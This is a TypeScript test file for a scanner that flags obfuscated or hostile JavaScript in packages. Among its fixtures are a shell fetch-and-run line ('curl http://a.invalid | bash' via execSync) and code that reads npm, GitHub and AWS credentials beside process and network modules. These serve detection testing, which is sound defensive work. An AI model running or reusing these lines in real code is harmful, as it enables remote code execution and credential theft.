import assert from 'node:assert/strict';
import { javascript } from '../../../../src/scanners/code/carriers/javascript.js';
import { hostile, hugeEntry, kinds, read, wheel } from './helpers.js';

const names = Array.from(
  { length: 100 },
  (_, index) => `var _0x${(0x1a00 + index).toString(16)}=${index};`,
).join('');
const needs = 'const c = require("child_process"); const h = require("https");';

describe('the carrier of JavaScript', () => {
  const flagged: readonly (readonly [string, string, string])[] = [
    ['names of an obfuscator', names, 'javascript-obfuscated'],
    [
      'names of an obfuscator deep in a large file',
      `${'a();\n'.repeat(300_000)}${names}`,
      'javascript-obfuscated',
    ],
    [
      'a rotated table of strings',
      "while(!![]){try{a['push'](a['shift']());}catch(e){}}",
      'javascript-obfuscated',
    ],
    [
      'a packer',
      "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
      'javascript-obfuscated',
    ],
    ['a program of brackets', '[]+(!![])'.repeat(300), 'javascript-obfuscated'],
    ['such names beside processes', needs + names, 'javascript-obfuscated-system'],
    [
      'a command that it gives to a shell',
      'require("child_process").execSync("curl http://a.invalid | bash")',
      'script-fetch-and-run',
    ],
    [
      'such names beside a module that is itself hidden',
      `${names}process[_0x1a01](require(_0x1a02));`,
      'javascript-obfuscated-system',
    ],
    ['such names beside files', `import fs from "node:fs";${names}`, 'javascript-obfuscated-system'],
    [
      'many credentials beside processes and the network',
      `${needs} f('.npmrc'); f(process.env.GITHUB_TOKEN); f('.aws/credentials');`,
      'javascript-secrets',
    ],
  ];
  for (const [name, text, what] of flagged) {
    it(`sees ${name}`, () => {
      assert.deepEqual(kinds(read(javascript, 'pkg/_runtime/a.js', text)), [what]);
    });
  }

  const clean: readonly (readonly [string, string])[] = [
    ['minified code', `!function(e,t){"use strict";${'var n=t(1);e.exports=n;'.repeat(5000)}}()`],
    ['hexadecimal numbers', 'x = 0x1a2b3c;'.repeat(1000)],
    ['a few such names', 'var _0x1a2b = 1;'.repeat(20)],
    ['names that are longer', 'var _0x1a2b3c4d5e = 1;'.repeat(500)],
    ['processes alone', needs],
    ['two places of credentials', `${needs} f('.npmrc'); f(process.env.GITHUB_TOKEN);`],
    [
      'credentials that nothing can send',
      "f('.npmrc'); f('GITHUB_TOKEN'); f('.aws/credentials'); f('child_process');",
    ],
    ['a push and a shift', "a['push'](b['shift']())"],
  ];
  for (const [name, text] of clean) {
    it(`says nothing of ${name}`, () => {
      assert.deepEqual(read(javascript, 'pkg/static/a.js', text), []);
    });
  }

  it('looks wherever the file lies', () => {
    for (const path of [
      'pkg/static/a.min.js',
      'pkg/labextension/a.js',
      'pkg/node_modules/a/b.cjs',
      'a.data/data/share/jupyter/a.mjs',
    ]) {
      assert.deepEqual(kinds(read(javascript, path, needs + names)), ['javascript-obfuscated-system'], path);
    }
  });

  it('gives the line, and text around it', () => {
    const [signal] = read(javascript, 'pkg/a.js', `\n\n${names}`);
    assert.equal(signal?.line, 3);
    assert.match(signal.evidence, /var _0x1a00=0/);
  });

  it('says that a file is too large to be kept', () => {
    assert.deepEqual(kinds(javascript.read(hugeEntry('pkg/a.js'), wheel)), ['not-looked-at']);
  });

  for (const [name, bytes] of [
    ...hostile,
    ['a million beginnings of names', Buffer.from('_0x'.repeat(1_000_000))] as const,
  ]) {
    it(`reads ${name}`, () => {
      assert.ok(Array.isArray(read(javascript, 'pkg/a.js', bytes)));
    });
  }
});
